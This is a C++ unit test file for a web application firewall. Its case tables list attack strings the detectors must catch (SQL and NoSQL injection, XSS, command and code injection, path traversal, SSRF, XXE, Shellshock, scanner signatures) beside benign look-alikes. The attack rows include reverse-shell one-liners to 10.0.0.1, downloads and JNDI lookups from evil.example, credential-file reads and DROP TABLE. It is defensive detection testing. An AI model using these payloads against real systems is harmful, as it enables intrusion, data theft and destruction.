// Case tables per detector: attacks that must be found, and benign values (the hard ones
// included) that must not be.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tests/cnaf/waf/waf_test_util.h"

namespace defender::cnaf::waf {
namespace {

using testing::detects;
using testing::table;


TEST(WafSqli, Table) {
  table(detect_sqli,
        {"1' or '1'='1", "1 OR 1=1", "admin'--", "' OR 1=1#", "-1 UNION SELECT 1,2,3",
         "1 union all select password from users", "x' UNION SELECT username, password FROM users--",
         "1; DROP TABLE users", "1' AND SLEEP(5)#", "1) or (1=1", "1')) or (('a'='a",
         "' waitfor delay '0:0:5'--", "1 AND 1=1", "1' ORDER BY 3--", "\" or \"\"=\"",
         "1/**/union/**/select/**/1,2", "0/*!50000union*/ select 1,2", "1' and extractvalue(1,concat(0x7e,version()))--",
         "1%27%20or%201%3D1--", "1' || (select 1)||'", "@@version", "1 and benchmark(5000000,md5(1))",
         "x'; exec master..xp_cmdshell 'dir'--", "1 having 1=1"},
        {"O'Brien", "Don't stop me now", "It's a 'select' few who know",
         "union was a great select", "Select the best option from the list",
         "How do I write SELECT name FROM users WHERE id = 1 in postgres? I tried it and it fails",
         "rock and roll", "2 or 3 people", "1-2 days", "speed and memory-efficient",
         "C# and F#", "--verbose", "@workaround", "the 'a' or 'b' options", "john.doe@example.com",
         "1,2,3", "price >= 100 and weight < 5", "Tom & Jerry", "order by date",
         "1950 or 1960", "Foo and 80", "exec noun", "I having true friends", "1 AND 1/2",
         "5/8\" #2 CIRCULAR NEEDLE", "\"LIKE\" STAMP", "john or@var.es", "3/4\" -1/2 wide"});
}

TEST(WafXss, Table) {
  table(detect_xss,
        {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
         "\"><script>alert(document.cookie)</script>", "javascript:alert(1)",
         "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">",
         "\" onmouseover=\"alert(1)", "' autofocus onfocus=alert(1) x='", "';alert(1)//",
         "<iframe srcdoc=\"<script>alert(1)</script>\">", "<details open ontoggle=alert(1)>",
         "%3Cscript%3Ealert(1)%3C/script%3E", "<body onload=alert(1)>", "<math><a xlink:href=javascript:alert(1)>",
         "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
         "<style>@import 'http://evil/x.css';</style>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"},
        {"&lt;script&gt;alert(1)&lt;/script&gt;", "a < b and c > d", "<p>Hello <b>world</b></p>",
         "#include <math.h>", "JavaScript: the good parts, chapter 3", "use onload= in the docs",
         "See <a href=\"https://example.com/\">this link</a> for all the details of the setup",
         "x<y", "Tom's \"quote\""});
}

TEST(WafCmdi, Table) {
  table(detect_cmdi,
        {"; cat /etc/passwd", "| id", "127.0.0.1 && whoami", "`id`", "$(whoami)", "a;id;",
         "x || ping -c 10 127.0.0.1", ";c'a't /e\"t\"c/pa's's'wd", "cat${IFS}/etc/passwd",
         "/bin/cat /etc/passwd", "| /usr/bin/id", "; /\x3f\x3f\x3f/c\x3ft /etc/passwd", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         "nc -e /bin/sh 10.0.0.1 4444", ";{cat,/etc/passwd}", "& dir c:\\", "x\nid",
         "wget http://evil.example/x.sh"},
        {"Tom & Jerry", "rock; paper; scissors", "echo in the mirror", "I'd like a cat",
         "https://www.example.com/search?q=a&b=c", "data:image/jpeg;base64,abc;def",
         "/account/settings?tab=security", "Hello; id like to know",
         "To install run the command and then, after a while, curl -fsSL https://get.example.com | sh"});
}

TEST(WafCodeInjection, Table) {
  table(detect_code_injection,
        {"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
         "<?php system($_GET['c']); ?>", "{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}",
         "';system('id');//", "require('child_process').exec('id')", "__import__('os').system('id')",
         "java.lang.Runtime", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "<!--#exec cmd=\"ls\"-->",
         "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "(system)('id')", "@$_[_](1)", "php://filter/convert.base64-encode/resource=index.php",
         "#{T(java.lang.Runtime).getRuntime().exec('id')}"},
        {"The price is ${price}", "Hello {{ user.name }}", "I use system() calls in C", "import os is common",
         "system() can fail with any of the same errors as fork(2).", "email me at a@b.c",
         "java is fun", "a {b} c", "the evaluation was positive"});
}

TEST(WafLfi, Table) {
  table(detect_lfi,
        {"../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd",
         "%2e%2e%2f%2e%2e%2fetc%2fshadow", "..%c0%af..%c0%afetc/passwd", "file:///etc/passwd",
         "/proc/self/environ", "C:\\boot.ini"},
        {"../images/logo.png", "see the docs in etc/ folder", "My password file is safe",
         "/api/v1/users", "v1.2..3", "Version 1.2 ... wait"});
}

TEST(WafUrlDetectors, RfiAndSsrf) {
  table(detect_rfi,
        {"http://evil.example/shell.txt?", "http://10.1.2.3/x.php", "php://input", "data://text/plain;base64,PD9w",
         "ftp://evil.example/x.txt?"},
        {"https://www.example.com/", "https://accounts.example.com/wp-admin/", "/local/path", "hello"});
  table(detect_ssrf,
        {"http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1/",
         "http://2130706433/", "http://0x7f.0.0.1/", "gopher://127.0.0.1:6379/_x", "http://[::1]/",
         "http://metadata.google.internal/computeMetadata/v1/", "http://10.0.0.5/", "file:///etc/passwd"},
        {"https://www.example.com/", "https://8.8.8.8/", "http://blog.example.net/post", "plain text"});
}

TEST(WafMiscDetectors, NosqliXxeShellshockScanner) {
  table(detect_nosqli,
        {"{\"$ne\": null}", "true, $where: '1 == 1'", "', $or: [ {}, { 'a':'a", "db.users.find({})",
         "';return true;var x='", "*(|(objectclass=*))", "(&(uid=admin)(!(&(1=0)(x=y))))"},
        {"{\"score\":{\"$gte\":1000}}", "it costs $5", "price in $", "(see above)", "db.example.com"});
  EXPECT_TRUE(detects(detect_nosqli, "$ne", Source::query_name));
  EXPECT_TRUE(detects(detect_nosqli, "password[$ne]", Source::query_name));
  table(detect_xxe,
        {"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
         "<!DOCTYPE a SYSTEM \"http://evil/x.dtd\">", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></x>"},
        {"<?xml version=\"1.0\"?><a>text</a>", "<!DOCTYPE html><html></html>"});
  table(detect_shellshock, {"() { :; }; /bin/cat /etc/passwd", "() {:;}; echo x"},
        {"f() is a function { ok }", "(a) {b}"}, Source::header);
  table(detect_scanner, {"sqlmap/1.7#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "Nuclei - Open-source project",
                          "Fuzz Faster U Fool v2.1.0", "apache_struts_rce.nasl",
                          "Mozilla/5.0 (X11) Chrome/55.0 root@abcd1234.interact.sh", "x.c59r0f.oastify.com",
                          "${jndi:dns://q.dnslog.cn}"},
        {"Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0", "curl/8.0", "Mozilla/5.0 (compatible; Googlebot/2.1)",
         "okhttp/4.12.0 interactive"},
        Source::header);
}

}  // namespace
}  // namespace defender::cnaf::waf
